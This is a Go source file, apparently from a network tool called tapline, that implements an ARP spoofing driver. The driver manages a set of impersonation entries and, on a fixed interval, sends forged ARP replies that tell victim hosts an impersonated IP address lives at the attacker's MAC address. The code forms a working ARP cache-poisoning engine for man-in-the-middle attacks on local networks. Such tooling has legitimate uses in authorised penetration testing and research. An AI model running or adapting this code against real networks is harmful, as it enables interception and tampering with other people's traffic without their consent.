package arpengine

import (
	"context"
	"net"
	"sync"
	"time"

	"go.uber.org/zap"

	"github.com/tapline/tapline/arpwire"
	"github.com/tapline/tapline/datalink"
)

// DefaultSpoofInterval is used when a caller constructs a driver with a
// non-positive interval. Production deployments typically prefer 1-2s to
// survive legitimate ARP traffic on the wire; callers may override this
// via the constructor.
const DefaultSpoofInterval = 10 * time.Second

// SpoofState is one of the ArpSpoofDriver state machine's three states.
type SpoofState int

const (
	Idle SpoofState = iota
	Running
	Stopping
)

func (s SpoofState) String() string {
	switch s {
	case Idle:
		return "idle"
	case Running:
		return "running"
	case Stopping:
		return "stopping"
	default:
		return "unknown"
	}
}

// SpoofingEntry is a directive to send victim unsolicited ARP replies
// claiming that impersonated.IPv4 now lives at attackerMAC. It is added
// once and never mutated; it is removed only via RemoveEntry.
type SpoofingEntry struct {
	Impersonated arpwire.NetworkLocation
	AttackerMAC  net.HardwareAddr
	Victim       arpwire.NetworkLocation
}

// ArpSpoofDriver holds the set of active SpoofingEntry values and
// transmits forged ARP replies for each on a fixed cadence. Entries added
// mid-cycle take effect on the next iteration, never the current one, so
// the transmit loop never holds the entry-set lock across a send.
type ArpSpoofDriver struct {
	sender   *datalink.FrameSender
	interval time.Duration
	log      *zap.Logger

	mu      sync.Mutex
	entries map[string]SpoofingEntry // keyed by impersonated.ip|victim.ip

	onCycle func()

	stateMu sync.Mutex
	state   SpoofState
	cancel  context.CancelFunc
	stopped chan struct{}
}

// NewArpSpoofDriver constructs a driver around sender. interval <= 0
// selects DefaultSpoofInterval.
func NewArpSpoofDriver(sender *datalink.FrameSender, interval time.Duration, log *zap.Logger) *ArpSpoofDriver {
	if interval <= 0 {
		interval = DefaultSpoofInterval
	}
	return &ArpSpoofDriver{
		sender:   sender,
		interval: interval,
		log:      log,
		entries:  make(map[string]SpoofingEntry),
	}
}

// SetCycleHook installs f to run after every completed transmit cycle,
// including cycles with zero entries. Callers use this to observe driver
// activity (e.g. a metrics counter) without the driver importing a
// metrics package directly. Must be called before Start.
func (d *ArpSpoofDriver) SetCycleHook(f func()) {
	d.mu.Lock()
	d.onCycle = f
	d.mu.Unlock()
}

func entryKey(e SpoofingEntry) string {
	return e.Impersonated.IPv4.String() + "->" + e.Victim.IPv4.String()
}

// AddEntry registers a SpoofingEntry. Safe to call while Running; the
// entry takes effect starting with the next transmit cycle.
func (d *ArpSpoofDriver) AddEntry(e SpoofingEntry) {
	d.mu.Lock()
	d.entries[entryKey(e)] = e
	d.mu.Unlock()
}

// RemoveEntry removes a previously added SpoofingEntry.
func (d *ArpSpoofDriver) RemoveEntry(e SpoofingEntry) {
	d.mu.Lock()
	delete(d.entries, entryKey(e))
	d.mu.Unlock()
}

// snapshot copies the current entry set without holding the lock across
// the transmit loop.
func (d *ArpSpoofDriver) snapshot() []SpoofingEntry {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := make([]SpoofingEntry, 0, len(d.entries))
	for _, e := range d.entries {
		out = append(out, e)
	}
	return out
}

// State returns the driver's current state.
func (d *ArpSpoofDriver) State() SpoofState {
	d.stateMu.Lock()
	defer d.stateMu.Unlock()
	return d.state
}

// Start transitions Idle->Running and begins the periodic poisoning loop.
// It is a no-op if already Running or Stopping.
func (d *ArpSpoofDriver) Start() {
	d.stateMu.Lock()
	if d.state != Idle {
		d.stateMu.Unlock()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	d.cancel = cancel
	d.stopped = make(chan struct{})
	d.state = Running
	d.stateMu.Unlock()

	go d.loop(ctx)
}

// Stop transitions Running->Stopping->Idle. The cancellation flag is set
// immediately; a cycle in progress sends no further entries (at most the
// one in-flight transmission completes), and Stop returns only after the
// loop has exited.
func (d *ArpSpoofDriver) Stop() {
	d.stateMu.Lock()
	if d.state != Running {
		d.stateMu.Unlock()
		return
	}
	d.state = Stopping
	cancel := d.cancel
	stopped := d.stopped
	d.stateMu.Unlock()

	cancel()
	<-stopped

	d.stateMu.Lock()
	d.state = Idle
	d.stateMu.Unlock()
}

func (d *ArpSpoofDriver) loop(ctx context.Context) {
	defer close(d.stopped)
	ticker := time.NewTicker(d.interval)
	defer ticker.Stop()

	d.transmitCycle(ctx)
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			if ctx.Err() != nil {
				return
			}
			d.transmitCycle(ctx)
		}
	}
}

// transmitCycle sends exactly one forged reply per entry present in the
// snapshot taken at the start of the cycle.
func (d *ArpSpoofDriver) transmitCycle(ctx context.Context) {
	for _, e := range d.snapshot() {
		if ctx.Err() != nil {
			return
		}
		frame, err := arpwire.BuildReply(
			arpwire.NetworkLocation{IPv4: e.Impersonated.IPv4, MAC: e.AttackerMAC},
			e.Victim,
		)
		if err != nil {
			d.log.Error("failed to build spoofed reply", zap.String("impersonated", e.Impersonated.IPv4.String()), zap.Error(err))
			continue
		}
		if err := d.sender.Send(frame); err != nil {
			d.log.Error("failed to send spoofed reply", zap.String("impersonated", e.Impersonated.IPv4.String()), zap.String("victim", e.Victim.IPv4.String()), zap.Error(err))
			continue
		}
		d.log.Debug("sent spoofed arp reply", zap.String("impersonated", e.Impersonated.IPv4.String()), zap.String("victim", e.Victim.IPv4.String()))
	}

	d.mu.Lock()
	hook := d.onCycle
	d.mu.Unlock()
	if hook != nil {
		hook()
	}
}
